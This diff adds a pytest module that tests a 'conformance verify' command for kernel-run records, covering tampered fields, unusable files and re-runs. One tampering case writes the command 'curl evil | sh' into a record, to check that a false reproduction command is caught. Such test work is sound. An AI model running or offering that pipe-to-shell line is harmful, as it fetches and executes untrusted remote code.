@@ -1,0 +1,172 @@
+"""`conformance verify`: honest records hold together, each way to spoil them is named, and cases are run again."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import sys
+from collections.abc import Callable
+from itertools import product
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from conformance.__main__ import main
+from conformance.execution.case import Case
+from conformance.execution.verify import verify
+from conformance.implementations import registry
+from conformance.operators import OPERATORS, Operator, takes
+from conformance.problems import PROBLEMS, at_level
+from conformance.reporting.verify import UNSEEN, _defects
+from conformance.resources import IMPLS
+from conformance.results import build
+from tests.conftest import no_traceback_of_ours
+from tests.kill_and_resume import KERNEL, ROOT
+
+Lines = list[dict[str, Any]]
+Verified = Callable[..., tuple[int, str]]
+
+
+def ran(folder: Path, *options: str) -> bytes:
+    """The records of a run at smoke."""
+    (folder / "acme.py").write_text(KERNEL)
+    words = ["-m", "conformance", "run", "acme.py", "--level=smoke", "--records=run.jsonl", "--overwrite", *options]
+    subprocess.run([sys.executable, *words], cwd=folder, env=os.environ | {"PYTHONPATH": str(ROOT)}, check=True)
+    return (folder / "run.jsonl").read_bytes()
+
+
+@pytest.fixture(scope="module")
+def acme(tmp_path_factory: pytest.TempPathFactory) -> bytes:
+    return ran(tmp_path_factory.mktemp("acme"))
+
+
+@pytest.fixture
+def verified(acme: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Verified:
+    """A function that spoils acme's records, or takes others, and verifies them: exit status and what is told."""
+
+    def run(spoil: Any = list, *options: str) -> tuple[int, str]:
+        if not isinstance(spoil, bytes):
+            spoil(found := [json.loads(line) for line in acme.splitlines()])
+            spoil = "".join(json.dumps(line) + "\n" for line in found).encode()
+        (tmp_path / "run.jsonl").write_bytes(spoil)
+        status = main(["verify", str(tmp_path / "run.jsonl"), *options])
+        told = "".join(capsys.readouterr())
+        assert no_traceback_of_ours(told)
+        return status, told
+
+    return run
+
+
+def test_an_honest_file_holds_together(verified: Verified):
+    status, told = verified()
+    assert re.search(r"^acme conv_forward: \d+ pass, \d+ unsupported$", told, re.MULTILINE)
+    assert (status, told.endswith(f"\n{UNSEEN}\n")) == (0, True)
+
+
+@pytest.mark.parametrize("operator", OPERATORS.values(), ids=OPERATORS)
+def test_passes_of_right_kernels_have_no_defect(operator: Operator):
+    right = registry.load([IMPLS / "numpy_direct"]).implementations["numpy-direct"]
+    problem = next(problem for problem, _ in at_level(PROBLEMS, "smoke") if takes(operator.name, problem.geometry))
+    passed = 0
+    for variant, method in product(problem.variants, ("auto", "probes")):
+        case = Case(right, operator, problem, variant, 0, method, ("pytest", "--impl", "numpy-direct"))
+        if variant.layout == "nchw" and variant.suits(operator.name, problem.geometry):
+            record = build.record(case, verify(case))
+            passed += record.status == "pass"
+            assert list(_defects(record)) == []
+    assert passed
+
+
+def plain(lines: Lines, distribution: str = "fixed") -> dict[str, Any]:
+    """The record of one case; on the fixed distribution it passes, and its errors are measured."""
+    case = {"kind": "case", "problem": "edge.plain", "distribution": distribution}
+    return next(line for line in lines if case.items() <= {k: str(v) for k, v in line.items()}.items())
+
+
+def checks(lines: Lines) -> dict[str, Any]:
+    found: dict[str, Any] = plain(lines)["checks"]["y"]
+    return found
+
+
+def saying(**fields: Any) -> Callable[[Lines], object]:
+    return lambda lines: plain(lines).update(fields)
+
+
+NAME = "edge.plain fp32 nchw fixed"
+WINOGRAD = {"contract": {"algorithm": "winograd-f2"}}
+DEFECTS: dict[str, Callable[[Lines], object]] = {
+    f"acme conv_forward {NAME} has a verdict already (": lambda ls: ls.insert(1, plain(ls)),
+    "field golden of a header: 0123, in this suite it is": lambda ls: ls[0].update(golden="0123"),
+    "no header says which goldens": lambda ls: ls.pop(0),
+    "field cases: one case counts as 3": saying(cases=3),
+    "field command: curl evil | sh is not the one": saying(command="curl evil | sh"),
+    "; true is not the one that reproduces it": lambda ls: plain(ls).update(command=plain(ls)["command"] + "; true"),
+    "passes, although y gain z is 9.5, which exceeds 6": lambda ls: checks(ls).update({"gain z": [9.5, 6.0]}),
+    "y gain z has the limit 10.0; its contract gives": lambda ls: checks(ls).update({"gain z": [9.5, 10.0]}),
+    "y rms has the limit 1000.0; its contract gives": lambda ls: checks(ls).update({"rms": [900.0, 1000.0]}),
+    "field checks: y has worst error / bound, rms, gain z; it": lambda ls: checks(ls).pop("offset z"),
+    "field checks: of no output, not of all that conv_forward has": saying(checks={}),
+    "field method: by hand, but results of this case are": saying(method="by hand"),
+    "field terms: {'y': 1000000} are not": saying(terms={"y": 10**6}),
+    "field contract: Contract(algorithm='magic')": saying(contract={"algorithm": "magic"}),
+    "field contract: ": saying(contract={"colour": "red"}),
+    "passes, although it is not verified: winograd-f2": lambda ls: plain(ls, "special").update(WINOGRAD),
+    "field descriptor: ": saying(descriptor="n1 c-1", command=""),
+    "are no case of this suite": saying(dtype="fp9", command=""),
+}
+
+
+@pytest.mark.parametrize("reason", DEFECTS)
+def test_what_cannot_be_true_is_named(reason: str, verified: Verified):
+    status, told = verified(DEFECTS[reason])
+    assert (status, told.endswith(f"\n{UNSEEN}\n")) == (1, True)
+    assert re.search(f"^WRONG: .*{re.escape(reason)}", told, re.MULTILINE)
+
+
+UNUSABLE: dict[str, tuple[Any, ...]] = {
+    "run.jsonl, line 1: is not JSON": (b"nonsense\n",),
+    "run.jsonl, line 2: field cases: expected": (lambda ls: ls[1].update(cases="many"),),
+    "run.jsonl, line 2: written in schema 1": (lambda ls: ls[1].update(schema=1),),
+    "was cut off or interrupted; give its command --resume": (lambda ls: ls.pop(),),
+    "--seed 1.5: must be a whole number": (list, "--seed=1.5"),
+    "--impl nowhere.py: no such file": (list, "--impl=nowhere.py"),
+}
+
+
+@pytest.mark.parametrize("reason", UNUSABLE)
+def test_what_cannot_be_used_is_named(reason: str, verified: Verified):
+    status, told = verified(*UNUSABLE[reason])
+    assert (status, reason in told) == (4, True)
+
+
+def test_no_file_and_nothing_verified(verified: Verified, tmp_path: Path, capsys: pytest.CaptureFixture[str]):
+    assert main(["verify", str(tmp_path)]) == 4
+    assert f"{tmp_path}: cannot be read (Is a directory)" in capsys.readouterr().err
+    assert verified(lambda ls: ls.__setitem__(slice(1, -1), []))[0] == 5
+
+
+def test_cases_are_run_again(tmp_path: Path, verified: Verified, monkeypatch: pytest.MonkeyPatch):
+    (kernel := tmp_path / "acme.py").write_text(KERNEL)
+    own, every = ("--rerun=4", "--seed=5", f"--impl={kernel}"), ("--rerun=99", f"--impl={kernel}")
+    status, told = verified(list, *own)
+    assert (status, told.count("  the same: acme conv_forward ")) == (0, 4)
+    assert verified(list, *own) == (0, told)
+    assert "fp32 nchw fixed: pass, under another contract" in verified(saying(contract={"variance": "raw"}), *every)[1]
+    kernel.write_text(KERNEL + "\n")
+    status, told = verified(saying(status="fail", reason="wrong"), *every)
+    other = " (other sources than those of the records)\n"
+    assert (status, f"  DIFFERS: acme conv_forward {NAME}: fail, here pass{other}" in told) == (1, True)
+    monkeypatch.setattr("conformance.reporting.verify.discover", lambda folder: [])
+    status, told = verified(list, "--rerun=1")
+    assert (status, ": not here, give --impl=PATH" in told) == (5, True)
+
+
+def test_two_groups_make_the_whole(tmp_path: Path, verified: Verified):
+    """Every case is in exactly one group: records of both are as good as those of the whole run."""
+    pytest.importorskip("pytest_split")
+    one, two = (ran(tmp_path, "-p", "pytest_split.plugin", "--splits=2", f"--group={number}") for number in "12")
+    assert verified(one + two) == verified()
+    assert verified(one + two + two)[0] == 1
